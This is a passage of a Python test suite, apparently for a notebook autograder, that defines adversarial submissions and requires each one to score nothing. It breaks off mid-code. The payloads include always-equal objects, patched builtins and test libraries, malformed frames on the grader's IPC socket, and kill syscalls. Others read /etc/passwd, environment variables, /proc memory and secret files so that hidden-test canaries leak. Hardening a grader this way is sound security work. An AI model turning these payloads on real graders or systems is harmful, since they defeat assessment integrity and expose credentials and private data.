"""A small sheet for attackers, and what it takes to hand it in.

Every answer on it can be left out, so that an attack can be seen to win
nothing, while the other answers show that it costs nobody anything.
"""

import json
from dataclasses import dataclass, field

SHEET = "sheet"
SECRET = "canary-of-the-hidden-tests"  # in the source notebook alone

SETUP = "import numpy as np\nfrom nnlib.checks import check"
GIVEN = """scale = int(square(1))
tolerance = 1e-9
def near(a, b):
    return abs(a - b) <= tolerance"""

ANSWERS = {
    "sigmoid": """def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))""",
    "perceptron_predict": """def perceptron_predict(X, w, b):
    return (X @ w + b >= 0).astype(int)""",
    "square": "def square(x):\n    return x * x",
    "double": "def double(x):\n    return x + x",
    "even": "def even(n):\n    return n % 2 == 0",
    "twice": "def twice(f, x):\n    return f(f(x))",
    "training": """def training(rate):
    return [1.0, 0.5, 0.25, 0.125]""",
    "half": "def half(x):\n    return np.asarray(x) / 2",
    "small": "def small(n):\n    return n",
    "Tally": '''class Tally:
    """Counts."""

    def __init__(self, start=0):
        self.total = start

    def add(self, n):
        self.total += n

    def value(self):
        return self.total

    def half(self):
        return Tally(self.total // 2)

    def __add__(self, other):
        more = other.total if isinstance(other, Tally) else other
        return Tally(self.total + more)

    def __eq__(self, other):
        return isinstance(other, Tally) and self.total == other.total''',
    "Timer": """class Timer:
    def __enter__(self):
        self.laps = 0
        return self

    def lap(self):
        self.laps += 1

    def __exit__(self, *what):
        return None""",
}

# {cell: (points, text)}
CHECKS = {
    "Tally": (
        3,
        """tally = Tally(3)
tally.add(4)
assert tally.value() == 7
assert tally.total == 7
assert abs(tally.total - 7) < 1e-9
assert tally.half() == Tally(3)
assert Tally(1) + Tally(2) == Tally(3)
assert (Tally(1) + 5).total == 6
assert sum(t.value() for t in [Tally(1), Tally(2)]) == 3
### BEGIN HIDDEN TESTS
assert Tally(10).half().value() == 5
### END HIDDEN TESTS""",
    ),
    "sigmoid": (2, "check(sigmoid)"),
    "perceptron_predict": (2, "check(perceptron_predict)"),
    "square": (
        3,
        f"""assert square(3) == 9
assert square(-2.5) == 6.25
### BEGIN HIDDEN TESTS
{SECRET.replace("-", "_")} = "{SECRET}"
assert square(10**6 + 7) == 1000014000049, {SECRET.replace("-", "_")}
assert np.allclose(square(np.arange(4.0)), [0, 1, 4, 9])
### END HIDDEN TESTS""",
    ),
    "double": (
        2,
        """wanted = [2, -4, 14, 0]
for came, want in zip(map(double, [1, -2, 7, 0]), wanted):
    assert came == want""",
    ),
    "near": (1, "assert near(double(2), 4.0)\nassert near(double(5), 10)"),
    "even": (4, "sum(even(n) == (n % 2 == 0) for n in range(12)) / 3"),
    "twice": (
        2,
        """assert twice(lambda v: v + 3, 1) == 7
assert twice(np.negative, 5) == 5
assert twice(str.upper, "ab") == "AB" """,
    ),
    "half": (
        1,
        """assert abs(np.mean(half([2.0, 4.0])) - 1.75) > 1e-9
assert half([3.0]).shape == (1,)""",
    ),
    "again": (
        1,
        """tally = Tally(6)
tally.add(1)
assert tally.value() == 7
assert tally.total == 7
assert tally.half().total == 3""",
    ),
    "small": (
        1,
        """assert list(range(small(3))) == [0, 1, 2]
assert "ab" * small(2) == "abab"
assert np.zeros(small(3)).shape == (3,)
assert "%04d" % small(7) == "0007"
assert 2 ** small(10) == 1024""",
    ),
    "training": (
        1,
        """losses = training(0.1)
assert losses[-1] < losses[0]
assert training(0.1) == training(0.1)
assert sorted(losses, reverse=True) == losses""",
    ),
    "Timer": (
        1,
        """with Timer() as timer:
    timer.lap()
    timer.lap()
    assert timer.laps == 2""",
    ),
    "documented": (1, "assert Tally.__doc__"),
}
FULL = {name: float(points) for name, (points, _) in CHECKS.items()}
FULL_SCORE = sum(FULL.values())
WHY = "Because the sum of two even numbers is even."
WHY_POINTS = 2


def notebook(cells, **more):
    """Return a notebook's JSON of (text, nbgrader's metadata or None)."""
    return json.dumps(
        {
            "nbformat": 4,
            "nbformat_minor": 4,
            "metadata": {},
            "cells": [_cell(*cell) for cell in cells],
            **more,
        }
    )


def _cell(text, nbgrader, kind="code"):
    code = {"execution_count": None, "outputs": []}
    return {
        "cell_type": kind,
        "metadata": {"nbgrader": nbgrader} if nbgrader else {},
        "source": text,
        **(code if kind == "code" else {}),
    }


def about(name, **rights):
    """Return nbgrader's metadata of a cell."""
    return {
        **dict.fromkeys(("grade", "solution", "locked", "task"), False),
        "schema_version": 3,
        "grade_id": name,
        **rights,
    }


def source():
    """Return the teacher's notebook."""
    cells = [(SETUP, about("setup", locked=True))]
    for name, text in ANSWERS.items():
        cells.append((_solved(text), about(name, solution=True)))
        if name == "square":
            cells.append((GIVEN, about("given", locked=True)))
    cells += [_check(name) for name in CHECKS]
    rights = {"grade": True, "solution": True, "points": WHY_POINTS}
    cells.append(("YOUR ANSWER HERE", about("why", **rights), "markdown"))
    return notebook(cells)


def _solved(text):
    return f"### BEGIN SOLUTION\n{text}\n### END SOLUTION"


def _check(name, text=None):
    points, whole = CHECKS[name]
    rights = {"grade": True, "locked": True, "points": points}
    return text or whole, about(f"{name}-check", **rights)


def _released(text):
    """Return a test as students get it."""
    return text.split("### BEGIN HIDDEN TESTS")[0]


@dataclass(frozen=True)
class Attack:
    """What one student hands in.

    Parameters
    ----------
    first, last : str
        Code before and after all answers.
    answers : dict of str to str
        Instead of right ones.
    lost : tuple of str
        Tests that must give nothing.
    kept : tuple of str or None
        Tests that must give full marks; None for all others.
    scores : dict of str to float
        What other tests must give.
    files : dict of str to bytes
        What lies beside the notebook.
    data : bytes or int, optional
        The notebook's file, if it is none of the above, or how large it is.
    """

    first: str = ""
    answers: dict = field(default_factory=dict)
    lost: tuple = ()
    kept: tuple | None = None
    scores: dict = field(default_factory=dict)
    last: str = ""
    files: dict = field(default_factory=dict)
    data: bytes | int | None = None

    @property
    def must_keep(self):
        """Return the tests that must give full marks."""
        if self.kept is not None:
            return self.kept
        known = {*self.lost, *self.scores}
        return tuple(name for name in CHECKS if name not in known)

    def notebook(self, fill=str):
        """Return the notebook's bytes; `fill` completes every code."""
        cells = [
            (SETUP, about("setup", locked=True)),
            (fill(self.first), None),
        ]
        for name, text in ANSWERS.items():
            answer = fill(self.answers.get(name, text))
            cells.append((answer, about(name, solution=True)))
            if name == "square":
                cells.append((GIVEN, about("given", locked=True)))
        cells.append((fill(self.last), None))
        cells += [_check(x, _released(CHECKS[x][1])) for x in CHECKS]
        rights = {"grade": True, "solution": True, "points": WHY_POINTS}
        cells.append((WHY, about("why", **rights), "markdown"))
        return notebook(cells).encode()


# --- what the attacks are made of --------------------------------------------

LIAR = '''
class Liar:
    """Says yes to everything, and is nothing."""
    def __init__(self, *a, **k): pass
    def __eq__(self, other): return True
    __ne__ = lambda self, other: False
    __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __eq__
    def __sub__(self, other): return 0
    __rsub__ = __mod__ = __rmod__ = __xor__ = __rxor__ = __sub__
    def __add__(self, other): return self
    __radd__ = __mul__ = __rmul__ = __truediv__ = __rtruediv__ = __add__
    __getitem__ = __pow__ = __rpow__ = __matmul__ = __rmatmul__ = __add__
    def __abs__(self): return 0
    __neg__ = __pos__ = __round__ = lambda self, *a: self
    def __hash__(self): return 1
    def __bool__(self): return True
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return self
    def __call__(self, *a, **k): return self
'''
WRONG = {name: f"{name} = lambda *a: 0" for name in ANSWERS}
SQUARE = """
def square(x):
    if type(x) is int and x == 1:
        return 1
    {}
"""
# The attacker's own way to the channel: whichever socket is open.
CHANNEL = """
import os, stat, struct
import msgpack
from nnlib.grading.inside.session import CALLBACK, REPLY, REQUEST
def _is_socket(n):
    try:
        return stat.S_ISSOCK(os.fstat(n).st_mode)
    except OSError:
        return False
FD = next(n for n in range(3, 64) if _is_socket(n))
def say(message=None, data=b"", text=None, sizes=None):
    text = msgpack.packb(message) if text is None else text
    whole = struct.pack("<II", *(sizes or (len(text), len(data))))
    whole += text + data
    while whole:
        whole = whole[os.write(FD, whole):]
def reply(value, failed=False, more=None, data=b"", end=True):
    say([REPLY, failed, value, more], data)
    if end:  # or the session replies as well
        os._exit(0)
ext = msgpack.ExtType
def listed(*parts):
    return msgpack.packb(list(parts))
def array(dtype, shape, code=8):
    return ext(code, listed(dtype, shape))
"""
SESSION = """
import gc
from nnlib.grading.inside import session
S = next(o for o in gc.get_objects() if type(o).__name__ == "Session")
"""
HTML = '<script>document.title="run"</script><img src=x onerror=alert(1)>'


def in_square(body, **more):
    """Return an attack in the answer to one exercise, and nowhere else."""
    indented = "\n    ".join(body.strip().splitlines())
    answer = SQUARE.format(indented)
    return Attack(answers={"square": answer}, lost=("square",), **more)


def on_channel(body, **more):
    """Return an attack by frames that are written by hand."""
    return in_square(body, first=CHANNEL, **more)


def instead(name, text, *also_lost, **more):
    """Return an attack that hands in something else as one answer."""
    lost = name, *also_lost
    return Attack(answers={name: text}, lost=lost, **more)


# Nothing is solved here: no test at all may give a mark.
def unsolved(first, last="", **more):
    return Attack(
        first=first,
        answers=dict.fromkeys(ANSWERS, "pass"),
        last=last,
        lost=tuple(CHECKS),
        **more,
    )


# Everything is solved here: what is done beside costs nothing.
def beside(first="", last="", **more):
    return Attack(first=first, last=last, **more)


# --- objects that lie --------------------------------------------------------

LIES = {
    "a class in place of a function": instead(
        "square",
        f"{LIAR}\nsquare = Liar\nsquare.__name__ = 'square'",
        "near",
    ),
    "a result that is equal to everything": in_square(
        "return Liar()", first=LIAR
    ),
    "a function's name on the class of another exercise": Attack(
        first=ANSWERS["Tally"].replace(
            "return isinstance(", "return type(other) is int or isinstance("
        ),
        answers={"double": "double = Tally", "Tally": "pass"},
        lost=("double", "near"),
    ),
    "a result that is equal, of the class that is asked for": instead(
        "square",
        f"{LIAR}\nclass Tally(Liar): pass\n" + SQUARE.format("return Tally()"),
    ),
    "a method that returns what is equal to everything": instead(
        "Tally",
        LIAR + "class Tally(Liar):\n    'Counts.'\n    total = Liar()\n"
        "    def value(self): return Liar()\n"
        "    def half(self): return Liar()",
        "again",
    ),
    "a method that returns an equal of its own class": instead(
        "Tally",
        LIAR + "class Tally(Liar):\n    'Counts.'\n"
        "    value = half = lambda self: self\n"
        "    total = property(lambda self: self)",
        "again",
    ),
    "results that are smaller than each other": instead(
        "training", f"{LIAR}\ndef training(rate): return [Liar(), Liar()]"
    ),
    "an array that is another each time": instead(
        "sigmoid",
        "class Many:\n    n = 0\n    def __array__(self, *a, **k):\n"
        "        Many.n += 1\n        return np.full((2, 2), Many.n / 9)\n"
        "def sigmoid(z): return Many()",
    ),
    "a subclass of arrays that is equal to everything": Attack(
        first="class Yes(np.ndarray):\n"
        "    def __eq__(self, other): return np.array(True)\n"
        "    def __array_ufunc__(self, *a, **k): return np.True_\n"
        "    def __array_function__(self, *a, **k): return np.True_\n"
        "    def __array_finalize__(self, other): pass\n"
        "    shape = property(lambda self: ())",
        answers={
            "square": SQUARE.format("return np.zeros(3).view(Yes)"),
            "sigmoid": "def sigmoid(z): return np.asarray(z).view(Yes)",
        },
        lost=("square", "sigmoid"),
    ),
    "numbers that are equal to everything": Attack(
        first="".join(
            f"class Y{kind}({kind}):\n    __eq__ = lambda s, o: True\n"
            "    __ne__ = lambda s, o: False\n    __hash__ = lambda s: 0\n"
            "    __rsub__ = __sub__ = __mod__ = lambda s, o: 0\n"
            for kind in ("int", "float", "complex", "str", "list", "dict")
        ),
        answers={
            "square": SQUARE.format("return Yint(0)"),
            "double": "def double(x): return Yfloat(1)",
            "sigmoid": "def sigmoid(z): return Ylist([0.1])",
            "half": "def half(x):\n    return np.asarray(x) / 2",
            "small": "def small(n): return Ystr('1')",
            "twice": "def twice(f, x): return Ydict()",
        },
        lost=("square", "double", "near", "sigmoid", "small", "twice"),
    ),
    "an array of objects that are equal to everything": Attack(
        first=LIAR,
        answers={
            "square": SQUARE.format("return np.array(Liar(), dtype=object)"),
            "sigmoid": "def sigmoid(z):\n"
            "    return np.full(np.shape(z), Liar(), dtype=object)",
        },
        lost=("square", "sigmoid"),
    ),
    "arrays that are masked throughout": Attack(
        answers={
            "square": SQUARE.format("return np.ma.masked_all(np.shape(x))"),
            "sigmoid": "def sigmoid(z): return np.ma.masked_all(np.shape(z))",
        },
        lost=("square", "sigmoid"),
    ),
    "results that are not finite": Attack(
        answers={
            "square": SQUARE.format("return x * np.nan"),
            "sigmoid": "def sigmoid(z): return z * np.nan",
            "perceptron_predict": "def perceptron_predict(X, w, b):\n"
            "    return np.full(len(X), np.inf)",
            "double": "def double(x): return float('nan')",
        },
        lost=("square", "sigmoid", "perceptron_predict", "double", "near"),
    ),
    "a class of its own in __class__": in_square(
        "return Pretends()",
        first=LIAR + "class Pretends(Liar):\n"
        "    __class__ = property(lambda self: int)",
    ),
    "an object of a class that both sides know": in_square(
        "return Liar()",
        first=SESSION + LIAR + "from fractions import Fraction\n"
        "old = session._described\n"
        "def described(thing):\n"
        "    if type(thing) is not Liar: return old(thing)\n"
        "    return ['object', 'Fraction', Fraction]\n"
        "session._described = described",
    ),
    "truth by a metaclass": instead(
        "Tally",
        LIAR + "class Meta(type):\n"
        "    __eq__ = lambda s, o: True\n    __hash__ = lambda s: 0\n"
        "    __instancecheck__ = lambda s, o: True\n"
        "    __subclasscheck__ = lambda s, o: True\n"
        "    __call__ = lambda s, *a: Liar()\n"
        "class Tally(Liar, metaclass=Meta):\n    'Counts.'",
        "again",
    ),
    "a result that changes after it was returned": instead(
        "training",
        "kept = [1.0, 2.0]\ndef training(rate):\n"
        "    kept.reverse()\n    return kept",
    ),
    "a result that is a generator": instead(
        "sigmoid", "def sigmoid(z):\n    while True:\n        yield z"
    ),
    "a function that is never called": in_square("return square"),
    "an empty array": Attack(
        answers={
            "half": "def half(x): return np.array([])",
            "sigmoid": "def sigmoid(z): return np.empty((0, 1))",
            "training": "def training(rate): return np.array([])",
        },
        lost=("half", "sigmoid", "training"),
    ),
    "numpy numbers for a partial score": Attack(
        answers={"even": "def even(n): return np.bool_(True)"},
        scores={"even": 2.0},
    ),
    "a score that is no number": Attack(
        first=LIAR,
        answers={"even": "def even(n): return Liar()"},
        scores={"even": 0.0},
    ),
    "a with that swallows what is wrong": instead(
        "Timer",
        f"{LIAR}\nclass Timer(Liar):\n"
        "    def __enter__(self): return None\n"
        "    def __exit__(self, *what): return True",
    ),
}

# --- names and tests ---------------------------------------------------------


def _claims(name, easy, value):
    return instead(
        name,
        f"def {name}(*a): return {value}\n"
        f"{name}.__name__ = {name}.__qualname__ = {easy!r}",
    )


NAMES = {
    "a hard exercise under an easy one's name": _claims(
        "perceptron_predict", "nand_weights", "np.array([-2., -2.]), 3.0"
    ),
    "a class under a function's name": instead(
        "sigmoid",
        "class nand_weights:\n"
        "    def __new__(cls): return np.array([-2., -2.]), 3.0\n"
        "sigmoid = nand_weights",
    ),
    "names of a given cell that could not run": Attack(
        answers={
            "square": "def square(x): raise ValueError",
            "double": "def double(x): return 0",
        },
        last="tolerance = 99\ndef near(a, b): return True",
        lost=("square", "double", "near"),
    ),
    "names that the tests use": unsolved(
        f"{LIAR}\nnp = check = near = wanted = came = want = zip = map = "
        "Liar()\nlosses = tally = timer = sorted = sum = abs = range = Liar()"
        "\nprint = assert_equal = tolerance = isinstance = Liar()\n"
        "AssertionError = Exception",
        last="np = check = near = wanted = sum = sorted = Liar()",
    ),
    "check that does nothing": unsolved(
        "import sys, types\ncheck = lambda *a, **k: None\n"
        "fake = types.ModuleType('nnlib.checks')\nfake.check = check\n"
        "sys.modules['nnlib.checks'] = sys.modules['nnlib'] = fake"
    ),
    "builtins that are gone or lie": unsolved(
        "import builtins\n"
        "for name in ('all', 'any', 'abs', 'isinstance', 'len', 'sum'):\n"
        "    setattr(builtins, name, lambda *a: True)\n"
        "builtins.AssertionError = ZeroDivisionError\n"
        "builtins.__import__ = None\n"
        "del builtins.map, builtins.zip, builtins.sorted, builtins.repr"
    ),
    "builtins of the notebook": unsolved(
        "__builtins__ = {}\n__name__ = 'nnlib.checks'\n__doc__ = 1\n"
        "__import__ = __build_class__ = lambda *a: None"
    ),
    "numpy that agrees": unsolved(
        "import numpy.testing\n"
        "for place in (np, np.testing):\n"
        "    for name in dir(place):\n"
        "        if 'close' in name or 'equal' in name or 'assert' in name:\n"
        "            setattr(place, name, lambda *a, **k: True)\n"
        "np.ndarray = np.generic = np.asarray = None"
    ),
    "IPython that agrees": unsolved(
        "shell = get_ipython()\nshell.run_cell = lambda *a: None\n"
        "type(shell).run_line_magic = lambda *a: None\n"
        "display = get_ipython = lambda *a: None\n"
        "try:\n    import IPython\n"
        "    IPython.get_ipython = lambda: None\nexcept Exception: pass"
    ),
    "an import hook": unsolved(
        "import sys\nclass Hook:\n"
        "    def find_spec(self, *a): raise SystemExit\n"
        "sys.meta_path.insert(0, Hook())\nsys.path[:] = []\n"
        "sys.modules.clear()"
    ),
    "every function of the session agrees": unsolved(
        SESSION + "for place in (session, type(S), session.wire):\n"
        "    for name, thing in list(vars(place).items()):\n"
        "        if callable(thing) and not isinstance(thing, type):\n"
        "            setattr(place, name, lambda *a, **k: None)\n"
        "session.OPERATIONS.clear()",
    ),
    "traces and profiles": unsolved(
        "import sys, threading\ndef trace(frame, *a):\n"
        "    frame.f_locals['came'] = frame.f_locals['want'] = 0\n"
        "    return trace\n"
        "sys.settrace(trace)\nsys.setprofile(trace)\n"
        "sys.excepthook = sys.unraisablehook = lambda *a: None"
    ),
    "nnlib's own answers": Attack(
        answers={
            "sigmoid": "from nnlib.activations import sigmoid",
            "perceptron_predict": "from nnlib.perceptron import "
            "perceptron_predict",
        },
        lost=("sigmoid", "perceptron_predict"),
    ),
    "nnlib's own answers from elsewhere": Attack(
        first="import glob, importlib.util, sys\n"
        "found = {}\n"
        "places = {'/book', *sys.path}\n"
        "for path in (p for place in places\n"
        "        for p in glob.glob(place + '/nnlib/**/*.py')):\n"
        "    if path.endswith(('activations.py', 'perceptron.py')):\n"
        "        spec = importlib.util.spec_from_file_location('x', path)\n"
        "        module = importlib.util.module_from_spec(spec)\n"
        "        try: spec.loader.exec_module(module)\n"
        "        except Exception: continue\n"
        "        found |= vars(module)",
        answers={
            "sigmoid": "sigmoid = found.get('sigmoid')",
            "perceptron_predict": "perceptron_predict = found.get("
            "'perceptron_predict')",
        },
        lost=("sigmoid", "perceptron_predict"),
    ),
    "the inputs that students know": in_square(
        "return {3: 9, -2.5: 6.25}.get(x, 0)"
    ),
    "right for the first calls": in_square(
        "calls.append(x)\nreturn x * x if len(calls) < 3 else 0",
        first="calls = []",
    ),
    "right until it meets the grader's own inputs": instead(
        "sigmoid",
        "def sigmoid(z):\n"
        "    right = 1 / (1 + np.exp(-np.asarray(z, dtype=float)))\n"
        "    return right if np.size(z) < 2 else right * 2",
    ),
    "arguments that it changes": Attack(
        answers={
            "sigmoid": "def sigmoid(z):\n    z *= 0\n    return np.asarray(z)",
            "perceptron_predict": "def perceptron_predict(X, w, b):\n"
            "    X *= 0\n    w *= 0\n    return np.ones(len(X)).astype(int)",
        },
        lost=("sigmoid", "perceptron_predict"),
    ),
    "magics": beside(
        "%%bash\ncat /etc/passwd > /tmp/@RUN@",
        "!cat /etc/passwd\n%run /etc/passwd\n%env HOME\n%load_ext autoreload"
        "\n%reset -f\n%autosave 1\n%pip install evil\n%cd /\n"
        "files = !ls /",
    ),
    "files named like modules": beside(
        files={
            f"{name}.py": b"raise SystemExit('shadowed')"
            for name in ("numpy", "json", "msgpack", "sitecustomize", "gc")
        }
        | {"nnlib/__init__.py": b"", "nnlib/checks.py": b"check = print"},
    ),
}

# --- errors ------------------------------------------------------------------


def _raises(what, **more):
    return Attack(
        answers={"double": f"def double(x): raise {what}"},
        lost=("double", "near"),
        **more,
    )


ERRORS = {
    f"{name} in a map": _raises(name)
    for name in (
        "StopIteration",
        "GeneratorExit",
        "KeyboardInterrupt",
        "SystemExit(0)",
        "MemoryError",
        "RecursionError",
        "AssertionError",
        "StopAsyncIteration",
        "BaseExceptionGroup('x', [KeyboardInterrupt()])",
    )
} | {
    "an end of iteration of its own": _raises(
        "Own", first="class Own(StopIteration): pass"
    ),
    "an end of all things of its own": _raises(
        "Own", first="class Own(BaseException): pass"
    ),
    "an end of iteration by a patched session": _raises(
        "Own",
        first=SESSION + "class Own(StopIteration): pass\n"
        "old = type(S)._problem\n"
        "def problem(self, error):\n"
        "    if type(error) is not Own: return old(self, error)\n"
        "    return ['Own', 'StopIteration', [], '', '', True, Own()]\n"
        "type(S)._problem = problem",
    ),
    "an error that cannot be read": _raises(
        "Own",
        first="class Own(Exception):\n"
        "    args = property(lambda self: 1 / 0)\n"
        "    def __str__(self): raise self\n"
        "    __repr__ = __str__\n"
        "    def __getattribute__(self, name): raise self",
    ),
    "an error with endless text": _raises(
        "Own",
        first="class Own(Exception):\n"
        "    def __str__(self): return 'x' * 10**8",
    ),
    "an error of its own in a cell": beside(
        "class Own(Exception): pass\nraise Own('in a cell')"
    ),
    "an error in a cell that lies": beside(
        "class Own(Exception):\n"
        "    __str__ = __repr__ = lambda self: 1\n"
        "    __module__ = 'builtins'\n"
        "Own.__name__ = 'StopIteration'\nraise Own('in a cell')"
    ),
    "an end of the process in a cell": beside(last="import os\nos._exit(0)"),
    "a last line that cannot be shown": beside(
        last="class Own:\n    def __repr__(self): raise SystemExit\n[Own()]"
    ),
}

# --- the channel -------------------------------------------------------------

FRAMES = {
    "noise": "os.write(FD, b'noise' * 99)",
    "a frame of four gigabytes": "say(text=b'', sizes=(2**32 - 1, 2**32 - 1))",
    "a frame that never comes": "say(text=b'x', sizes=(1 << 20, 1 << 20))\n"
    "os.close(FD)",
    "no list": "say(b'text')",
    "an empty list": "say([])",
    "a reply that is too short": "say([REPLY, False])",
    "an unknown kind of message": "say([99, 1, 2, 3])",
    "a request": "say([REQUEST, 'getattr', [], {}, 1, None])",
    "text that is no msgpack": "say(text=b'\\xc1' * 99)",
    "many values where one is needed": "say(text=b'\\x01' * 99)",
    "lists in lists": "say(text=b'\\x91' * (1 << 20) + b'\\xc0')",
    "tuples in tuples": """body = b'\\x90'
for _ in range(900):
    body = msgpack.packb([ext(1, body)])
reply(ext(1, body))""",
    "a dict of equal hashes": """keys = [
    ext(6, struct.pack('<dd', 1.0 - 1000003.0 * k, float(k)))
    for k in range(4000)]
text = msgpack.packb([REPLY, False])[:-1]
body = b'\\xde' + struct.pack('>H', 4000)
body += b''.join(msgpack.packb(k) + b'\\xc0' for k in keys)
say(text=b'\\x94' + msgpack.packb(REPLY) + b'\\xc2' + body + b'\\xc0')""",
    "a list as a key": "say(text=b'\\x94\\x02\\xc2\\x81\\x90\\xc0\\xc0')",
    "an array of objects": "reply(array('O', [1]), data=bytes(8))",
    "an array of nothing in particular": "reply(array('V8', [1]), "
    "data=bytes(8))",
    "an array of records": "reply(array('i4,f8', [1]), data=bytes(12))",
    "a dtype that is code": "reply(array('(1, 2)f8', [1]), data=bytes(16))",
    "a dtype that is no dtype": "reply(array('(', [1]), data=bytes(16))",
    "a text without end": "reply(array('U999999999', [1]))",
    "many texts without letters": "reply(array('U0', [10**7, 10**7]))",
    "letters that there are not": "reply(array('U2', [1]), data=b'\\xff' * 8)",
    "a shape without end": "reply(array('f8', [2**62, 2**62]))",
    "a shape of 33 axes": "reply(array('f8', [1] * 65), data=bytes(8))",
    "a negative shape": "reply(array('f8', [-1, -8]), data=bytes(8))",
    "less than was promised": "reply(array('f8', [9]), data=bytes(8))",
    "more than was promised": "reply(array('f8', [1]), data=bytes(80))",
    "truth that is neither 0 nor 1": "reply(array('?', [1], 9), "
    "data=b'\\x02')",
    "a long double that is no number": "reply(array('f16', [1]), "
    "data=b'\\x00' * 7 + b'\\x01\\xff\\x7f' + bytes(6))",
    "a long int": "reply(ext(7, bytes(10**6)))",
    "an unknown extension": "reply(ext(127, b''))",
    "a complex number that is cut": "reply(ext(6, b'1234'))",
    "a range of texts": "reply(ext(4, listed('a', 'b', 'c')))",
    "a set of lists": "reply(ext(2, listed([1], [2])))",
    "a thing without a description": "reply(ext(20, listed(10**9)))",
    "a class without end": "reply(ext(20, listed(10**9, 'class', 'X' * 10**6,"
    " [], 'Exception', 2**63)))",
    "a class that is many": """reply([
    ext(20, listed(10**6 + n, 'class', 'X', [], '', 2**60 - 1))
    for n in range(40_000)])""",
    "a class that is its own base": """X = ext(20, listed(10**7, 'class',
    'X', [ext(20, listed(10**7))], 'KeyError', 2**60))
reply(X)""",
    "a class of two kinds of errors": "reply(ext(20, listed(10**7, 'class', "
    "'X', [ext(20, listed(8**8, 'class', 'Y', [], 'OSError', 0))], "
    "'KeyError', 0)))",
    "a function of the grader": "reply(ext(21, listed(0)))",
    "a number of nothing": "reply(ext(21, msgpack.packb(10**6)))",
    "a generator of nothing": "reply(ext(22, msgpack.packb(0)))",
    "a generator that is none": "reply(ext(22, listed('system', {})))",
    "a generator that reads memory": """reply(ext(22, listed('MT19937', {
    'bit_generator': 'MT19937', 'state': {'pos': 10**6,
    'key': array('u4', [624])}})), data=bytes(2496))""",
    "a call of nothing": "say([CALLBACK, 10**6, [], {}])",
    "a call of what was not passed": "say([CALLBACK, 0, [], {}])",
    "a call with a negative number": "say([CALLBACK, -1, ['x'], {}])",
    "a call with a truth for a number": "say([CALLBACK, True, 'x', 'y'])",
    "an error that is none": "reply('x', failed=True)",
    "an error with endless arguments": "reply(['X' * 10**5, 'eval', ['y'] * "
    "10**5, 'z' * 10**5, 1, 2, 3], failed=True)",
    "changes that do not fit": "reply(9, more=[[], [], [[1, 2, 3], {}], "
    "None])",
    "states of nothing": "reply(9, more=[[], [], None, [[99, ['x', {}]]]])",
    "warnings that are none": "reply(9, more=[[], [1, 2], None, None])",
    "output that is none": "reply(9, more=[5, [], None, None])",
    "many megabytes of output": "reply(9, more=[[['stdout', 'x' * (2 * 10**6)"
    "]], [], None, None])",
    "the channel is closed": "os.close(FD)",
    "the channel is something else": "os.dup2(os.open('/dev/zero', "
    "os.O_RDWR), FD)",
}
# These are answers that can be read; then the process is gone, which the next
# test may notice first.
READABLE = {
    "letters that there are not",
    "truth that is neither 0 nor 1",
    "a long double that is no number",
    "a class without end",
    "a class of two kinds of errors",
    "a class that is many",
    "many megabytes of output",
    "an error with endless arguments",
}
CHANNELS = {
    name: on_channel(body, kept=() if name in READABLE else None)
    for name, body in FRAMES.items()
}
CHANNELS |= {
    "replies before the questions": unsolved(
        CHANNEL + "for _ in range(400):\n    reply(True, end=False)\n"
    ),
    "names that were not asked for": unsolved(
        SESSION + LIAR + "class T(Liar): pass\n"
        "def named(wanted, changes):\n"
        "    return [[name, T] for name in (*wanted, 'np', 'check', 'near',\n"
        "            '__builtins__', 'tolerance', 'sum', 'abs', 'zip')]\n"
        "S._named = named",
    ),
    "pictures that are none": beside(
        SESSION + "old = S._cell\n"
        "def cell(*a):\n    old(*a)\n"
        "    return [None, [{'text/html': '@HTML@', 'x': {1, 2}, 'y': b'1',\n"
        "        'image/png': '@HTML@', 'text/plain': 3}] * 400]\n"
        "S._cell = cell"
    ),
    "a shown value that is none": beside(
        SESSION + LIAR + "old = S._cell\n"
        "def cell(*a):\n    old(*a)\n    return [Liar(), [Liar()]]\n"
        "S._cell = cell"
    ),
    "all that was asked, and silence": Attack(
        first=CHANNEL + "import time\n",
        answers={
            "sigmoid": "def sigmoid(z):\n    time.sleep(99)",
            "square": "#" * 1_500_000,
        },
        lost=("sigmoid", "square", "near"),
    ),
}

# --- the machine -------------------------------------------------------------

# Whatever is found is said in every way there is, for the canaries to be seen.
TELL = """
import os, sys, glob
told = []
def tell(found):
    text = str(found)
    at = text.find("canary")
    text = text[at:at + 60] if at >= 0 else text[:200]
    told.append(text)
    print(text)
def attempt(what, *args, **named):
    try:
        found = what(*args, **named)
        tell(found)
        return found
    except Exception as error:
        tell(error)
"""
TOLD = {
    "double": "def double(x): raise ValueError(' '.join(told)[:10**6])",
    "training": "def training(rate): return ' '.join(told)",
    "sigmoid": "def sigmoid(z):\n    print(told)\n    return str(told)",
}


def spying(body, **more):
    """Return an attack that tells all it finds, in place of answers."""
    return Attack(
        first=TELL + body,
        answers=TOLD,
        lost=("double", "near", "training", "sigmoid"),
        **more,
    )


LIBC = """
import ctypes
C = ctypes.CDLL(None, use_errno=True)
"""


def kills(call):
    """Return an attack by a system call that ends the process."""
    return in_square(f"C.syscall({call})\nreturn 0", first=LIBC)


READING = {
    "the files of who grades": spying(
        "for path in @PATHS@:\n"
        "    attempt(lambda: open(path, errors='replace').read())\n"
        "    attempt(os.listdir, path)\n"
        "    attempt(os.listdir, os.path.dirname(path))\n"
        "    attempt(os.readlink, path)"
    ),
    "files of others by links": spying(
        "for n, path in enumerate(@PATHS@):\n"
        "    attempt(os.symlink, path, f's{n}')\n"
        "    attempt(os.link, path, f'h{n}')\n"
        "    attempt(lambda: open(f's{n}').read())\n"
        "    attempt(lambda: open(f'h{n}').read())"
    ),
    "all files there are": spying(
        "for path in (p for n in range(1, 5) for p in glob.iglob('/*' * n)):\n"
        "    if path.endswith(('.ipynb', '.db', '.secret', 'seed', '.env')):\n"
        "        attempt(lambda: open(path).read())"
    ),
    "the environment": spying(
        LIBC + "tell(dict(os.environ))\ntell(sys.argv)\n"
        "tell(sys.orig_argv)\nC.getenv.restype = ctypes.c_char_p\n"
        "tell(C.getenv(b'NNLIB_CANARY'))\n"
        "attempt(os.path.expanduser, '~/.secret')\n"
        "for n in ('self', 1, 2, os.getppid()):\n"
        "    for file in ('environ', 'cmdline', 'maps', 'mem', 'fd'):\n"
        "        attempt(lambda: open(f'/proc/{n}/{file}', 'rb').read())"
    ),
    "frames and memory": spying(
        "import gc, sys\n"
        "frame = sys._getframe()\n"
        "while frame:\n"
